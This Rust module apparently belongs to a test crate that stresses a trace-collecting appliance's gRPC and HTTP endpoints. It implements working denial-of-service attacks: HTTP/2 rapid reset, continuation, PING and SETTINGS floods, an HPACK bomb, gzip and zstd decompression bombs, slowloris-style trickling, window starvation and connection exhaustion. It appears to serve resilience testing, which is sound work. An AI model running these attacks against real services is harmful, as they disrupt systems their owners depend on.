//! The attacks: each opens connections and misuses them until its time is over, a connection that was cut being followed by the
//! next. Bounded in time and in connections; measures nothing.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    export, field, frame, kept_field,
};

/// After a cut: an attacker that only connects anew would measure `accept`.
const BREATH: Duration = Duration::from_millis(10);

/// A bomb says it holds this much; the appliance takes requests of 64 MiB.
const BOMB_BYTES: usize = 512 << 20;

/// Where to, and how long.
pub(crate) struct Offender {
    pub(crate) grpc: SocketAddr,
    pub(crate) http: SocketAddr,
    pub(crate) until: Instant,
}

impl Offender {
    #[expect(clippy::disallowed_methods, reason = "an attack has its end in real time")]
    fn has_time(&self) -> bool {
        Instant::now() < self.until
    }

    #[expect(clippy::disallowed_methods, reason = "it waits for real")]
    fn rest(time: Duration) {
        std::thread::sleep(time);
    }

    /// Again and again on new connections, until time is over.
    fn again(&self, mut attack: impl FnMut(&mut TcpStream) -> std::io::Result<()>) {
        while self.has_time() {
            if let Ok(mut stream) = TcpStream::connect(self.grpc) {
                let limited = stream.set_write_timeout(Some(Duration::from_secs(1)));
                // Ending in an error is what it is for.
                let _cut = limited.and_then(|()| attack(&mut stream));
            }
            Self::rest(BREATH);
        }
    }

    /// Frames from `batch`, which is told the number of the batch, until the connection is cut.
    fn flood(&self, mut batch: impl FnMut(u32) -> Vec<u8>) {
        self.again(|stream| {
            stream.write_all(PREFACE)?;
            let mut number = 0;
            while self.has_time() && !was_cut(stream)? {
                stream.write_all(&batch(number))?;
                number += 1;
            }
            Ok(())
        });
    }

    /// Streams of their own for each batch, each with `each` frames about it.
    fn flood_streams(&self, mut each: impl FnMut(u32) -> Vec<u8>) {
        self.flood(|batch| (0..50).flat_map(|index| each((batch * 50 + index) * 2 + 1)).collect());
    }

    pub(crate) fn rapid_reset(&self) {
        self.flood_streams(|stream| {
            [frame(HEADERS, END_HEADERS, stream, &export()), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])]
                .concat()
        });
    }

    /// The same with roles changed: an update by nothing is an error that the server must answer with a reset.
    pub(crate) fn made_to_reset(&self) {
        self.flood_streams(|stream| {
            [frame(HEADERS, END_HEADERS, stream, &export()), frame(WINDOW_UPDATE, 0, stream, &[0; 4])]
                .concat()
        });
    }

    pub(crate) fn many_streams(&self) {
        self.flood_streams(|stream| frame(HEADERS, END_HEADERS, stream, &export()));
    }

    pub(crate) fn continuation_flood(&self) {
        self.flood(|batch| match batch {
            0 => frame(HEADERS, 0, 1, &export()),
            _ => frame(CONTINUATION, 0, 1, &[0x82]),
        });
    }

    pub(crate) fn ping_flood(&self) {
        self.flood(|_| frame(PING, 0, 0, b"12345678").repeat(50));
    }

    pub(crate) fn settings_flood(&self) {
        self.flood(|_| frame(SETTINGS, 0, 0, &[]).repeat(50));
    }

    pub(crate) fn empty_data(&self) {
        self.flood(|batch| match batch {
            0 => frame(HEADERS, END_HEADERS, 1, &export()),
            _ => frame(DATA, 0, 1, &[]).repeat(50),
        });
    }

    /// A few kilobytes that unfold to half a megabyte of headers.
    pub(crate) fn hpack_bomb(&self) {
        let mut block = [export(), kept_field(b"x", &[b'x'; 3_900])].concat();
        block.extend([0xBE; 130]);
        self.flood_streams(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
    }

    /// A header block that does not end, though its frames are few.
    pub(crate) fn large_headers(&self) {
        let piece = field(b"x", &[b'x'; 15_000]);
        self.flood(|batch| match batch {
            0 => frame(HEADERS, 0, 1, &export()),
            _ => frame(CONTINUATION, 0, 1, &piece),
        });
    }

    /// It says at its end how much it holds.
    pub(crate) fn gzip_bomb(&self) {
        self.post("gzip", gzip_bytes());
    }

    /// It says that it holds nothing.
    pub(crate) fn lying_gzip_bomb(&self) {
        let mut lying = gzip_bytes().to_vec();
        let size_at = lying.len() - 4;
        lying[size_at..].fill(0);
        self.post("gzip", &lying);
    }

    /// Blocks of one byte and how often it comes: a kilobyte unfolds to 32 MiB (RFC 8878, section 3.1.1.2).
    pub(crate) fn zstd_bomb(&self) {
        const BLOCK_BYTES: usize = 128 << 10;
        const RUN: usize = 1 << 1;
        let mut bomb = vec![0x28, 0xB5, 0x2F, 0xFD, 0x00, 0x38];
        for left in (0..BOMB_BYTES / BLOCK_BYTES).rev() {
            let header = u32::try_from(BLOCK_BYTES << 3 | RUN | usize::from(left == 0)).unwrap();
            bomb.extend_from_slice(&header.to_le_bytes()[..3]);
            bomb.push(0);
        }
        self.post("zstd", &bomb);
    }

    /// One request after the other, each answer read.
    fn post(&self, encoding: &str, body: &[u8]) {
        let head = format!(
            "POST /v1/traces HTTP/1.1\r\nhost: a\r\ncontent-type: application/x-protobuf\r\ncontent-encoding: {encoding}\r\ncontent-length: {}\r\n\r\n",
            body.len()
        );
        self.again(|stream| {
            stream.set_read_timeout(Some(Duration::from_secs(2)))?;
            while self.has_time() {
                stream.write_all(head.as_bytes())?;
                stream.write_all(body)?;
                let heard = stream.read(&mut [0; 4_096])?;
                if heard == 0 {
                    break;
                }
            }
            Ok(())
        });
    }

    /// Answers ten times as large as their requests, none of which is read. Over HTTP/1, where no window bounds them.
    pub(crate) fn never_reads(&self) {
        let requests = b"GET / HTTP/1.1\r\nhost: a\r\n\r\n".repeat(100);
        self.again(|stream| {
            while self.has_time() {
                stream.write_all(&requests)?;
            }
            Ok(())
        });
    }

    /// Requests whose answers are not allowed out: the window stays at nothing.
    pub(crate) fn window_starvation(&self) {
        let nothing = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
        let message = [0; 5];
        let mut held = Vec::new();
        for _ in 0..200 {
            let Ok(mut stream) = TcpStream::connect(self.grpc) else { continue };
            let requests = (0..200_u32).flat_map(|number| {
                let stream = number * 2 + 1;
                let head = frame(HEADERS, END_HEADERS, stream, &export());
                [head, frame(DATA, END_STREAM, stream, &message)].concat()
            });
            let all = [PREFACE, &nothing, &requests.collect::<Vec<u8>>()].concat();
            if stream.write_all(&all).is_ok() {
                held.push(stream);
            }
        }
        while self.has_time() {
            Self::rest(BREATH);
        }
    }

    /// A byte every now and then of what `begin` begins.
    fn trickle(&self, begin: &[u8]) {
        let begun = (0..200).filter_map(|_| {
            let mut stream = TcpStream::connect(self.http).ok()?;
            stream.write_all(begin).ok()?;
            Some(stream)
        });
        let mut streams: Vec<TcpStream> = begun.collect();
        while self.has_time() && !streams.is_empty() {
            streams.retain_mut(|stream| !was_cut(stream).unwrap_or(true) && stream.write_all(b"x").is_ok());
            Self::rest(Duration::from_millis(50));
        }
    }

    pub(crate) fn slow_headers(&self) {
        self.trickle(b"POST /v1/traces HTTP/1.1\r\nhost: a\r\nx: ");
    }

    pub(crate) fn slow_bodies(&self) {
        self.trickle(
            b"POST /v1/traces HTTP/1.1\r\nhost: a\r\ncontent-type: application/x-protobuf\r\ncontent-length: 1000000\r\n\r\n",
        );
    }

    /// More than ten thousand connections that say who they are and nothing else.
    pub(crate) fn idle_connections(&self) {
        let mut held = Vec::new();
        while held.len() < 10_050 && self.has_time() {
            let Ok(mut stream) = TcpStream::connect(self.grpc) else { continue };
            // Those beyond the limit are closed as they come.
            let _turned_away = stream.write_all(PREFACE);
            held.push(stream);
        }
        while self.has_time() {
            Self::rest(BREATH);
        }
    }
}

/// Made once: it takes longer than an attack.
pub(crate) fn gzip_bytes() -> &'static [u8] {
    static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        let zeros = vec![0; 1 << 20];
        for _ in 0..BOMB_BYTES / zeros.len() {
            encoder.write_all(&zeros).unwrap();
        }
        encoder.finish().unwrap()
    });
    &BOMB
}

/// Reads away what there is; whether the peer has ended the connection.
fn was_cut(stream: &mut TcpStream) -> std::io::Result<bool> {
    stream.set_nonblocking(true)?;
    let mut buffer = [0; 16 << 10];
    let ended = loop {
        match stream.read(&mut buffer) {
            Ok(0) => break true,
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => break false,
            Err(error) => return Err(error),
        }
    };
    stream.set_nonblocking(false)?;
    Ok(ended)
}
